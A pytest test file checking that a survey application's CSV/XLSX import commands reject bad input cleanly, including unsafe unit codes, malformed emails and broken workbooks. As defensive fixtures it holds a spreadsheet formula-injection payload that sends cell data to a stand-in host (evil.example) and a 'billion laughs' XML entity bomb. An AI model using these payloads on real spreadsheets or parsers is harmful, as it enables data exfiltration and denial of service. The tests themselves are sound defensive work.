"""The import commands: happy paths, and every kind of bad input stops cleanly with no change."""

from __future__ import annotations

from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import Workbook

from survey.extensions import db
from survey.models import Answer, Invitation, Response, ResponseComment, Round, Unit, UnitRemap
from tests.conftest import SMALL_ORG, table_snapshot


def _fails(runner, args, *expected: str) -> str:
    before = table_snapshot()
    result = runner.invoke(args=args)
    assert result.exit_code != 0, result.output
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    for text in expected:
        assert text in result.output, result.output
    assert table_snapshot() == before, "a failed command changed the database"
    return result.output


def _xlsx(path: Path, rows: list[list[object]], extra_sheet: bool = False) -> Path:
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    if extra_sheet:
        wb.create_sheet("Notes").append(["just a note"])
    wb.save(path)
    return path


def test_org_import_csv_and_xlsx(runner, write_csv, tmp_path):
    result = runner.invoke(
        args=["org", "import", "--year", "2025", str(write_csv("o.csv", SMALL_ORG))]
    )
    assert result.exit_code == 0, result.output
    assert "Imported 5 units" in result.output
    path = _xlsx(tmp_path / "org.xlsx", SMALL_ORG)
    result = runner.invoke(args=["org", "import", "--year", "2026", str(path)])
    assert result.exit_code == 0, result.output
    units = db.session.scalars(sa.select(Unit).where(Unit.year == 2026)).all()
    by_code = {u.code: u for u in units}
    assert by_code["EDU-A"].parent.code == "EDU"
    assert by_code["CITY"].parent is None


def test_org_import_semicolon_csv_and_reimport_replaces(runner, tmp_path):
    path = tmp_path / "o.csv"
    path.write_text("code;name;parent_code\nA;Stad;\nB;Förvaltning;A\n", encoding="utf-8")
    assert runner.invoke(args=["org", "import", "--year", "2025", str(path)]).exit_code == 0
    path.write_text("code;name;parent_code\nA;Stad;\nC;Ny;A\n", encoding="utf-8")
    assert runner.invoke(args=["org", "import", "--year", "2025", str(path)]).exit_code == 0
    codes = set(db.session.scalars(sa.select(Unit.code).where(Unit.year == 2025)))
    assert codes == {"A", "C"}


@pytest.mark.parametrize(
    ("rows", "expected"),
    [
        (
            SMALL_ORG + [["EDU-A", "Again", "EDU"]],
            ["row 7", "column code", "duplicate unit code 'EDU-A'"],
        ),
        (
            SMALL_ORG + [["X", "X", "NOPE"]],
            ["row 7", "column parent_code", "unknown parent unit code 'NOPE'"],
        ),
        (SMALL_ORG + [["ROOT2", "Second", ""]], ["row 7", "column parent_code", "second root"]),
        (
            [["code", "name", "parent_code"], ["A", "A", ""], ["B", "B", "C"], ["C", "C", "B"]],
            ["cycle", "column parent_code"],
        ),
        ([["code", "name"], ["A", "A"]], ["row 1", "missing column 'parent_code'"]),
        ([["code", "name", "parent_code", "colour"], ["A", "A", ""]], ["unknown column 'colour'"]),
        ([["code", "name", "parent_code"], ["A", "", ""]], ["row 2", "column name", "has no name"]),
    ],
    ids=[
        "duplicate",
        "unknown-parent",
        "second-root",
        "cycle",
        "missing-column",
        "extra-column",
        "no-name",
    ],
)
def test_org_import_bad_input(runner, make_org, write_csv, rows, expected):
    make_org(2025)
    path = write_csv("bad.csv", rows)
    _fails(runner, ["org", "import", "--year", "2025", str(path)], "bad.csv", *expected)


def test_org_import_not_utf8_and_extra_sheets(runner, make_org, write_csv, tmp_path):
    make_org(2025)
    latin = write_csv(
        "latin.csv", [["code", "name", "parent_code"], ["A", "Förvaltning", ""]], encoding="latin-1"
    )
    _fails(
        runner, ["org", "import", "--year", "2026", str(latin)], "latin.csv", "not UTF-8", "row 2"
    )
    book = _xlsx(tmp_path / "two.xlsx", SMALL_ORG, extra_sheet=True)
    _fails(runner, ["org", "import", "--year", "2026", str(book)], "two.xlsx", "2 sheets")


def test_org_remap(runner, make_org, write_csv):
    make_org(2025)
    make_org(2026, SMALL_ORG[:4] + [["CARE2", "Vård", "CITY"]])
    ok = write_csv("remap.csv", [["old_code", "new_code"], ["CARE", "CARE2"]])
    result = runner.invoke(args=["org", "remap", "--year", "2026", str(ok)])
    assert result.exit_code == 0, result.output
    assert db.session.scalar(sa.select(UnitRemap.new_code)) == "CARE2"
    bad = write_csv("remap2.csv", [["old_code", "new_code"], ["CARE", "NOPE"]])
    _fails(
        runner,
        ["org", "remap", "--year", "2026", str(bad)],
        "remap2.csv",
        "row 2",
        "column new_code",
        "unknown 2026 unit code 'NOPE'",
    )


def test_round_create_stores_snapshot_and_state_machine(runner, make_round):
    name = make_round()
    rnd = db.session.scalar(sa.select(Round).where(Round.name == name))
    assert rnd.status == "draft"
    assert rnd.snapshot.document["id"] == "malmo-digital"
    assert len(rnd.snapshot.items) > 40
    out = _fails(runner, ["round", "publish", name], "draft", "cannot be moved to published")
    assert "closed" in out
    for move in ("open", "close", "publish"):
        assert runner.invoke(args=["round", move, name]).exit_code == 0
    _fails(runner, ["round", "open", name], "published")
    _fails(runner, ["round", "open", "nosuch"], "no round named 'nosuch'")


def test_round_create_bad_input(runner, make_org, tmp_path):
    make_org(2025)
    _fails(
        runner,
        ["round", "create", "X", "--year", "2030", "--questionnaire", "malmo-digital"],
        "no organisation tree for 2030",
    )
    _fails(
        runner,
        ["round", "create", "X", "--year", "2025", "--questionnaire", "nope"],
        "no questionnaire file or instrument id 'nope'",
    )
    broken = tmp_path / "broken.yaml"
    broken.write_text("id: x\nversion: 1\ntitle: {sv: a, en: b}\nscales: {}\ndimensions: []\n")
    _fails(
        runner,
        ["round", "create", "X", "--year", "2025", "--questionnaire", str(broken)],
        "questionnaire is invalid",
    )


def _response_rows() -> list[list[object]]:
    header = [
        "unit_code",
        "role",
        "cap_workplace_1",
        "cap_workplace_2",
        "comp_safety_1",
        "cap_governance_1",
        "comment_learning",
    ]
    return [
        header,
        ["EDU-A", "employee", 5, "dk", 3, "", "Mer tid för kurser"],
        ["EDU-B", "manager", "", "", 4, 6, ""],
        ["CARE", "specialist", "", "", 2, "dk", ""],
    ]


def test_responses_import(runner, make_round, write_csv):
    name = make_round()
    path = write_csv("answers.csv", _response_rows())
    result = runner.invoke(args=["responses", "import", name, str(path)])
    assert result.exit_code == 0, result.output
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Response)) == 3
    values = dict(
        db.session.execute(
            sa.select(Answer.item_id, Answer.value)
            .join(Response)
            .join(Unit, Unit.id == Response.unit_id)
            .where(Unit.code == "EDU-A")
        ).all()
    )
    assert values == {"cap_workplace_1": 5, "cap_workplace_2": None, "comp_safety_1": 3}
    assert db.session.scalar(sa.select(ResponseComment.text)) == "Mer tid för kurser"


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            lambda r: r[1].__setitem__(0, "NOPE"),
            ["row 2", "column unit_code", "unknown unit code 'NOPE'"],
        ),
        (lambda r: r[2].__setitem__(1, "boss"), ["row 3", "column role", "unknown role 'boss'"]),
        (
            lambda r: r[0].__setitem__(3, "cap_bogus_9"),
            ["row 1", "column cap_bogus_9", "unknown item column"],
        ),
        (
            lambda r: r[1].__setitem__(2, 7),
            ["row 2", "column cap_workplace_1", "'7' is off the scale"],
        ),
        (lambda r: r[3].__setitem__(4, "dk"), ["row 4", "column comp_safety_1", "not allowed"]),
        (lambda r: r[1].__setitem__(4, "2.5"), ["row 2", "column comp_safety_1", "off the scale"]),
        (lambda r: [row.pop(1) for row in r], ["row 1", "missing column 'role'"]),
    ],
    ids=["unit", "role", "item-column", "off-scale", "dk-on-level5", "decimal", "missing-column"],
)
def test_responses_import_bad_input(runner, make_round, write_csv, change, expected):
    name = make_round()
    rows = _response_rows()
    change(rows)
    path = write_csv("bad.csv", rows)
    _fails(runner, ["responses", "import", name, str(path)], "bad.csv", *expected)


def test_respondents_import_and_bad_input(runner, make_round, write_csv):
    name = make_round()
    good = write_csv(
        "people.csv",
        [
            ["email", "unit_code", "role"],
            ["a@x.se", "EDU-A", "employee"],
            ["B@x.se", "CARE", "manager"],
        ],
    )
    result = runner.invoke(args=["respondents", "import", name, str(good)])
    assert result.exit_code == 0, result.output
    emails = set(db.session.scalars(sa.select(Invitation.email)))
    assert emails == {"a@x.se", "b@x.se"}
    assert all(t is None for t in db.session.scalars(sa.select(Invitation.token_hash)))
    again = write_csv(
        "again.csv",
        [
            ["email", "unit_code", "role"],
            ["c@x.se", "EDU-A", "employee"],
            ["a@x.se", "EDU-A", "employee"],
        ],
    )
    _fails(runner, ["respondents", "import", name, str(again)], "row 3", "already invited")
    bad = write_csv(
        "bad.csv", [["email", "unit_code", "role"], ["not-an-email", "EDU-A", "employee"]]
    )
    _fails(runner, ["respondents", "import", name, str(bad)], "row 2", "column email")


def test_failed_sqlite_import_leaves_file_byte_identical(runner, make_round, write_csv, app):
    url = app.config["DATABASE_URL"]
    if not url.startswith("sqlite"):
        pytest.skip("byte comparison is for the SQLite file; PostgreSQL is compared by rows")
    name = make_round()
    db.session.remove()
    db.engine.dispose()
    path = Path(url.removeprefix("sqlite:///"))
    before = path.read_bytes()
    rows = _response_rows() + [["EDU-A", "employee", 9, "", "", "", ""]]
    result = runner.invoke(args=["responses", "import", name, str(write_csv("bad.csv", rows))])
    assert result.exit_code != 0
    db.session.remove()
    db.engine.dispose()
    assert path.read_bytes() == before


def test_changes_are_audited_failures_are_not(runner, make_round, write_csv):
    from survey.models import AuditLog

    name = make_round(status="open")
    actions = [a.action for a in db.session.scalars(sa.select(AuditLog).order_by(AuditLog.id))]
    assert actions == ["org.import", "round.create", "round.open"]
    bad = write_csv("bad.csv", [["unit_code", "role", "cap_workplace_1"], ["NOPE", "employee", 1]])
    assert runner.invoke(args=["responses", "import", name, str(bad)]).exit_code != 0
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditLog)) == 3


HOSTILE = '=HYPERLINK("http://evil.example/?"&D2,"Öppna")'


def _write_rows(path: Path, rows: list[list[object]]) -> Path:
    import csv

    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


@pytest.mark.parametrize(
    "code", [HOSTILE, "=1+1", "+46", "-A1", "@SUM", "EDU A", "a/b", ".hidden", "x\ty"]
)
def test_org_import_refuses_unsafe_unit_codes(runner, tmp_path, code):
    path = _write_rows(tmp_path / "org.csv", [*SMALL_ORG, [code, "Enhet", "CITY"]])
    out = _fails(
        runner,
        ["org", "import", "--year", "2025", str(path)],
        "org.csv",
        "row 7",
        "column code",
        "not a valid unit code",
    )
    assert "letters, digits" in out


def test_org_import_accepts_letters_digits_dot_underscore_dash(runner, tmp_path):
    rows = [*SMALL_ORG, ["Ö_2.1-b", "Östra", "CITY"], ["7", "Sju", "CITY"]]
    result = runner.invoke(
        args=["org", "import", "--year", "2025", str(_write_rows(tmp_path / "o.csv", rows))]
    )
    assert result.exit_code == 0, result.output
    assert {"Ö_2.1-b", "7"} <= set(db.session.scalars(sa.select(Unit.code)))


def test_org_import_accepts_a_formula_like_name_as_text(runner, tmp_path):
    """Names are free text (neutralised on output, see test_exports); codes are not."""
    rows = [*SMALL_ORG, ["EVIL", HOSTILE, "CITY"]]
    result = runner.invoke(
        args=["org", "import", "--year", "2025", str(_write_rows(tmp_path / "o.csv", rows))]
    )
    assert result.exit_code == 0, result.output
    assert db.session.scalar(sa.select(Unit.name).where(Unit.code == "EVIL")) == HOSTILE
    bad = _write_rows(tmp_path / "n.csv", [*SMALL_ORG, ["X", "line\nbreak", "CITY"]])
    _fails(runner, ["org", "import", "--year", "2026", str(bad)], "n.csv", "column name")


def test_org_import_headcount(runner, tmp_path):
    rows = [[*r, h] for r, h in zip(SMALL_ORG, ["headcount", 120, 40, 12, "", 50], strict=True)]
    result = runner.invoke(
        args=["org", "import", "--year", "2025", str(_write_rows(tmp_path / "o.csv", rows))]
    )
    assert result.exit_code == 0, result.output
    heads = dict(db.session.execute(sa.select(Unit.code, Unit.headcount)).all())
    assert heads == {"CITY": 120, "EDU": 40, "EDU-A": 12, "EDU-B": None, "CARE": 50}
    xlsx = _xlsx(tmp_path / "o.xlsx", rows)
    assert runner.invoke(args=["org", "import", "--year", "2026", str(xlsx)]).exit_code == 0
    assert (
        db.session.scalar(sa.select(Unit.headcount).where(Unit.year == 2026, Unit.code == "EDU-A"))
        == 12
    )


@pytest.mark.parametrize(
    ("heads", "expected"),
    [
        (["headcount", 120, "many", "", "", ""], ["row 3", "column headcount", "'many'"]),
        (["headcount", 120, "-4", "", "", ""], ["row 3", "column headcount", "whole number"]),
        (["headcount", 120, 10, 8, 5, ""], ["row 3", "column headcount", "add up to 13"]),
        (["headcount", 20, "", 8, 5, 10], ["row 2", "column headcount", "add up to 23"]),
    ],
    ids=["text", "negative", "children-exceed", "grandchildren-exceed"],
)
def test_org_import_bad_headcount(runner, tmp_path, heads, expected):
    rows = [[*r, h] for r, h in zip(SMALL_ORG, heads, strict=True)]
    path = _write_rows(tmp_path / "heads.csv", rows)
    _fails(runner, ["org", "import", "--year", "2025", str(path)], "heads.csv", *expected)


@pytest.mark.parametrize("status", ["closed", "published"])
def test_no_import_into_a_closed_round(runner, make_round, write_csv, status):
    name = make_round(status=status)
    answers = write_csv("answers.csv", _response_rows())
    _fails(
        runner,
        ["responses", "import", name, str(answers)],
        "answers.csv",
        f"round '{name}' is {status}",
        "nothing can be imported",
    )
    people = write_csv("p.csv", [["email", "unit_code", "role"], ["a@x.se", "EDU-A", "employee"]])
    _fails(runner, ["respondents", "import", name, str(people)], f"is {status}")


def test_responses_import_into_draft_and_open_rounds(runner, make_round, write_csv):
    for name, status in (("D", "draft"), ("O", "open")):
        make_round(name, status=status, org=name == "D")
        path = write_csv(f"{name}.csv", _response_rows())
        result = runner.invoke(args=["responses", "import", name, str(path)])
        assert result.exit_code == 0, result.output


@pytest.mark.parametrize(
    "email",
    [
        "anna@",
        "anna",
        "a b@x.se",
        "a@x",
        "Anna <a@x.se>",
        "a@@x.se",
        "a@x.se;b@x.se",
        "a@localhost",
    ],
)
def test_respondents_import_validates_emails(runner, make_round, write_csv, email):
    name = make_round()
    path = write_csv("p.csv", [["email", "unit_code", "role"], [email, "EDU-A", "employee"]])
    _fails(
        runner,
        ["respondents", "import", name, str(path)],
        "p.csv",
        "row 2",
        "column email",
        "is not an email address",
    )


def _rewrite_member(path: Path, member: str, data: bytes) -> Path:
    import zipfile

    src = path.read_bytes()
    tmp = path.with_suffix(".tmp")
    tmp.write_bytes(src)
    with zipfile.ZipFile(tmp) as zin, zipfile.ZipFile(path, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info, data if info.filename == member else zin.read(info.filename))
    tmp.unlink()
    return path


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&lol3;</t></is></c></row></sheetData></worksheet>"""


@pytest.mark.parametrize(
    ("member", "data", "reason"),
    [
        (None, b"code,name,parent_code\nA,B,\n", "not a zip archive"),
        ("xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row>", "not a readable XLSX"),
        ("xl/worksheets/sheet1.xml", BOMB, "XML declares entities"),
        ("xl/workbook.xml", BOMB.replace(b"worksheet", b"workbook"), "XML declares entities"),
        ("xl/workbook.xml", b"\x00\x01garbage", "not a readable XLSX"),
    ],
    ids=["not-zip", "bad-xml", "entity-bomb-sheet", "entity-bomb-workbook", "garbage"],
)
def test_broken_xlsx_gives_one_line_and_writes_nothing(
    runner, make_org, tmp_path, member, data, reason
):
    make_org(2025, [*SMALL_ORG, ["OLD", "Kvar", "CITY"]])
    path = tmp_path / "hostile.xlsx"
    if member is None:
        path.write_bytes(data)
    else:
        _rewrite_member(_xlsx(path, SMALL_ORG), member, data)
    out = _fails(runner, ["org", "import", "--year", "2025", str(path)], "hostile.xlsx", reason)
    assert len(out.strip().splitlines()) == 1, out
    assert "lollollol" not in out


def test_xlsx_reader_uses_defusedxml():
    import openpyxl

    assert openpyxl.DEFUSEDXML is True
